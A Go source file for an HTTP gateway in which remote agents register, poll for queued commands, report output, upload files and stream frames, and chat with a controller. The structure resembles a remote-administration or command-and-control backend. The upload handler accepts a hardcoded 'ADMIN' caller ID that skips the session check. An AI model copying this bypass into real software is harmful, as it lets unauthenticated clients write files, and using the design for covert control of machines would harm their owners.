// ABOUTME: Agent-facing HTTP handlers: register, poll, result reporting, uploads, and chat.
// ABOUTME: Wire shapes match the original polling protocol so existing agents interoperate.

package gateway

import (
	"io"
	"net"
	"net/http"
	"strings"

	"github.com/musterhq/muster/internal/session"
)

// AdminSentinel is the reserved caller identifier that lets the
// controller use the upload endpoint without a live session.
const AdminSentinel = "ADMIN"

// maxUploadMemory bounds the in-memory portion of multipart parsing.
const maxUploadMemory = 32 << 20

// RegisterRequest is the JSON request body for POST /api/register.
type RegisterRequest struct {
	ID       string `json:"id,omitempty"`
	PublicIP string `json:"public_ip,omitempty"`
}

// RegisterResponse is the JSON response for POST /api/register.
type RegisterResponse struct {
	ID     string `json:"id"`
	Status string `json:"status"`
}

// PollRequest is the JSON request body for POST /api/poll.
type PollRequest struct {
	ID string `json:"id"`
}

// CommandResponse is the wire form of a queued command.
type CommandResponse struct {
	ID     string `json:"id"`
	Type   string `json:"type"`
	Params string `json:"params"`
}

// PollResponse is the JSON response for POST /api/poll. Command is null
// when the queue is empty.
type PollResponse struct {
	Command *CommandResponse `json:"command"`
}

// ResultRequest is the JSON request body for POST /api/result.
type ResultRequest struct {
	ID     string `json:"id"`
	CmdID  string `json:"cmd_id"`
	Output string `json:"output"`
}

// ChatSendRequest is the JSON request body for POST /api/chat/send. The
// agent names the session with "id"; the controller targets one with
// "target_id".
type ChatSendRequest struct {
	ID       string `json:"id,omitempty"`
	TargetID string `json:"target_id,omitempty"`
	Sender   string `json:"sender"`
	Message  string `json:"message"`
}

// ChatMessageResponse is the wire form of one chat log entry.
type ChatMessageResponse struct {
	Sender    string `json:"sender"`
	Message   string `json:"message"`
	Timestamp int64  `json:"timestamp"`
}

// handleRegister handles POST /api/register: first check-in or resume.
func (g *Gateway) handleRegister(w http.ResponseWriter, r *http.Request) {
	var req RegisterRequest
	if err := decodeJSON(r, &req); err != nil {
		writeError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	addr := req.PublicIP
	if addr == "" {
		addr = remoteHost(r)
	}

	id, _ := g.registry.Register(req.ID, addr)
	writeJSON(w, http.StatusOK, RegisterResponse{ID: id, Status: "registered"})
}

// handlePoll handles POST /api/poll: the agent drains one command, or
// null when the queue is empty. Unknown sessions get a 404 telling the
// agent to re-register.
func (g *Gateway) handlePoll(w http.ResponseWriter, r *http.Request) {
	var req PollRequest
	if err := decodeJSON(r, &req); err != nil {
		writeError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	cmd, err := g.registry.DequeueOne(req.ID)
	if err != nil {
		writeError(w, http.StatusNotFound, "unknown client, re-register")
		return
	}

	writeJSON(w, http.StatusOK, PollResponse{Command: commandResponse(cmd)})
}

// handleResult handles POST /api/result: the agent reports a command's
// output. A missing cmd_id is acknowledged without storing anything,
// matching the tolerant agent protocol.
func (g *Gateway) handleResult(w http.ResponseWriter, r *http.Request) {
	var req ResultRequest
	if err := decodeJSON(r, &req); err != nil {
		writeError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	if req.CmdID == "" {
		if !g.registry.Touch(req.ID) {
			writeError(w, http.StatusNotFound, "unknown client")
			return
		}
		writeJSON(w, http.StatusOK, map[string]string{"status": "ok"})
		return
	}

	if err := g.registry.SetResult(req.ID, req.CmdID, req.Output); err != nil {
		writeError(w, http.StatusNotFound, "unknown client")
		return
	}
	writeJSON(w, http.StatusOK, map[string]string{"status": "ok"})
}

// handleUpload handles POST /api/upload (multipart). Stream frames go to
// the in-memory frame cache; everything else is written to the blob
// store, with a marker result recorded when a cmd_id accompanies the
// upload. The ADMIN sentinel bypasses the session check.
func (g *Gateway) handleUpload(w http.ResponseWriter, r *http.Request) {
	if err := r.ParseMultipartForm(maxUploadMemory); err != nil {
		writeError(w, http.StatusBadRequest, "invalid multipart form")
		return
	}

	id := r.FormValue("id")
	cmdID := r.FormValue("cmd_id")
	isStreamFrame := r.FormValue("is_stream_frame") == "true"

	if id != AdminSentinel && !g.registry.Touch(id) {
		writeError(w, http.StatusNotFound, "unknown client")
		return
	}

	file, header, err := r.FormFile("file")
	if err != nil {
		writeError(w, http.StatusBadRequest, "no file part")
		return
	}
	defer file.Close()

	if header.Filename == "" {
		writeError(w, http.StatusBadRequest, "no selected file")
		return
	}

	if isStreamFrame {
		frame, err := io.ReadAll(file)
		if err != nil {
			writeError(w, http.StatusBadRequest, "reading frame")
			return
		}
		g.registry.PushFrame(id, frame)
		writeJSON(w, http.StatusOK, map[string]string{"status": "frame_received"})
		return
	}

	name, err := g.blobs.Save(r.Context(), id, header.Filename, file)
	if err != nil {
		g.logger.Error("storing upload", "session_id", id, "error", err)
		writeError(w, http.StatusInternalServerError, "storing upload")
		return
	}

	if cmdID != "" && id != AdminSentinel {
		if err := g.registry.SetResult(id, cmdID, "FILE_UPLOADED:"+name); err != nil {
			// Session expired between Touch and SetResult; the blob is
			// stored either way.
			g.logger.Warn("upload result dropped", "session_id", id, "cmd_id", cmdID)
		}
	}

	writeJSON(w, http.StatusOK, map[string]string{"status": "uploaded", "filename": name})
}

// handleChatSend handles POST /api/chat/send from either participant.
// Controller messages are also queued as a chat-delivery command.
func (g *Gateway) handleChatSend(w http.ResponseWriter, r *http.Request) {
	var req ChatSendRequest
	if err := decodeJSON(r, &req); err != nil {
		writeError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	id := req.ID
	if id == "" {
		id = req.TargetID
	}

	if err := g.registry.AppendChat(id, req.Sender, req.Message); err != nil {
		writeError(w, http.StatusNotFound, "unknown client")
		return
	}
	writeJSON(w, http.StatusOK, map[string]string{"status": "sent"})
}

// handleChatHistory handles GET /api/chat/history/{id}. Unknown sessions
// yield an empty list, not an error.
func (g *Gateway) handleChatHistory(w http.ResponseWriter, r *http.Request) {
	history := g.registry.ChatHistory(r.PathValue("id"))

	resp := make([]ChatMessageResponse, 0, len(history))
	for _, msg := range history {
		resp = append(resp, ChatMessageResponse{
			Sender:    msg.Sender,
			Message:   msg.Message,
			Timestamp: msg.Timestamp.Unix(),
		})
	}
	writeJSON(w, http.StatusOK, resp)
}

// remoteHost extracts the host portion of the request's remote address.
func remoteHost(r *http.Request) string {
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return strings.TrimSpace(r.RemoteAddr)
	}
	return host
}

// commandResponse converts a session.Command for the wire.
func commandResponse(cmd *session.Command) *CommandResponse {
	if cmd == nil {
		return nil
	}
	return &CommandResponse{ID: cmd.ID, Type: cmd.Type, Params: cmd.Params}
}
